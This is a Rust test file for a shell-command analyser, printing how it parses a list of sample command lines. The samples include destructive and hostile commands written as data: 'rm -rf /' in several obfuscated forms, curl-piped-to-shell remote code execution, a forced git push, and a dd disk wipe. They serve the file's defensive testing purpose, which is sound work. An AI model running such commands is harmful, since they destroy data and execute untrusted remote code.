use super::*;

fn commands(line: &str) -> Vec<String> {
    analyse(line)
        .commands
        .iter()
        .map(|command| {
            let mut text = command.program.clone();
            if !command.flags.is_empty() {
                text.push_str(&format!(" flags={}", command.flags.join(",")));
            }
            if !command.operands.is_empty() {
                text.push_str(&format!(" operands={}", command.operands.join(",")));
            }
            if !command.via.is_empty() {
                text.push_str(&format!(" via={}", command.via.join(",")));
            }
            if !command.inputs.is_empty() {
                text.push_str(&format!(" inputs={}", command.inputs.join(",")));
            }
            text
        })
        .collect()
}

#[test]
fn shows() {
    for line in [
        "rm -rf --no-preserve-root /",
        "sudo -u root rm -rf -- \"/\" && bash -c 'curl x | sh'",
        "git -C . push -uf origin +main",
        "echo x > generated.txt; (rm -rf /)",
        "bash <(curl -fsSL https://x.sh)",
        "sh -c \"$(curl -fsSL https://x)\"",
        "r\\m -rf /",
        "'rm' -rf $'\\x2f'",
        "echo / | xargs rm -rf",
        "eval \"rm -rf /\"",
        "curl -s x | sudo -E bash",
        "find / -name x -exec rm -rf {} \\;",
        "env A=b timeout 5 nice -n 3 /bin/rm -rf ~/",
        "echo 'rm -rf /' | sh",
        "bash <<EOF\nrm -rf /\nEOF",
        "echo 'unterminated; rm -rf /",
        "cp a generated.txt && sed -i 's/a/b/' Cargo.lock && tee -a x.txt < in.txt",
        "dd if=/dev/zero of=/dev/sda bs=1M",
    ] {
        println!("{line:?}\n  {:?}\n  files {:?}", commands(line), analyse(line).files);
    }
}
